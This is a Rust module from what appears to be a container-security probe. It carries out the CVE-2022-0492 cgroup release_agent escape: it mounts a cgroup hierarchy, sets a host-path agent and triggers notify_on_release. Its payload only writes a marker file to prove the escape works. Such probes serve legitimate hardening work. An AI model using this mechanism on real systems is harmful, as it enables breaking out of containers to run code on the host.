//! The release agent of a version 1 cgroup hierarchy (CVE-2022-0492).
//!
//! When the last process of a cgroup ends, the kernel starts the hierarchy's `release_agent`
//! (cgroups(7)): in its own initial namespaces, whoever wrote the path. The probe names itself.

use std::fs;
use std::io;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};

use super::MARK;
use crate::line;

/// What the agent leaves beside itself.
const LEFT: &str = "released";

/// How long the kernel may take to start an agent. It reads the path when it starts it, not when
/// the cgroup is left, so the hierarchy must not go before.
const PAUSE: Duration = Duration::from_millis(1500);

/// The program as an agent: proves that it was started, beside the path by which it was.
pub fn released(program: &str, cgroup: &str) -> bool {
    let Some(folder) = Path::new(program).parent() else {
        return false;
    };
    let kernel = fs::read_to_string("/proc/version").unwrap_or_default();
    let said = [MARK, cgroup.as_bytes(), b"\n", kernel.as_bytes()].concat();
    fs::write(folder.join(LEFT), said).is_ok()
}

/// Names `agent`, a path of the host, as the agent of `hierarchy`, and lets a cgroup be left.
pub fn attack(hierarchy: &str, agent: &str, folder: &str) {
    let mounted = Path::new(folder).join("hierarchy");
    if line::outcome("make a folder", fs::create_dir_all(&mounted)).is_none() {
        return;
    }
    let what = format!("mount the cgroup hierarchy {hierarchy}");
    line::attempt(&what);
    let Ok(options) = std::ffi::CString::new(format!("none,name={hierarchy}")) else {
        return line::refused(what, "its name has a zero byte");
    };
    let result = mount(
        "none",
        &mounted,
        "cgroup",
        MountFlags::empty(),
        options.as_c_str(),
    );
    if line::outcome(what, result).is_none() {
        return;
    }
    let what = format!("let the kernel start {agent}");
    line::attempt(&what);
    if line::outcome(what, release(&mounted, agent)).is_some() {
        std::thread::sleep(PAUSE);
    }
    // A container's mount ends with it; on the host there is a folder to be left clean.
    let _ = unmount(&mounted, UnmountFlags::DETACH);
}

/// Sets the agent, and lets a process end in a cgroup of its own.
fn release(mounted: &Path, agent: &str) -> io::Result<()> {
    fs::write(mounted.join("release_agent"), agent)?;
    let cgroup = mounted.join("attack");
    fs::create_dir_all(&cgroup)?;
    fs::write(cgroup.join("notify_on_release"), "1")?;
    let mut child = Command::new("/proc/self/exe")
        .args(["canary", "released", "ignored"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()?;
    let moved = fs::write(cgroup.join("cgroup.procs"), child.id().to_string());
    child.kill()?;
    child.wait()?;
    moved
}
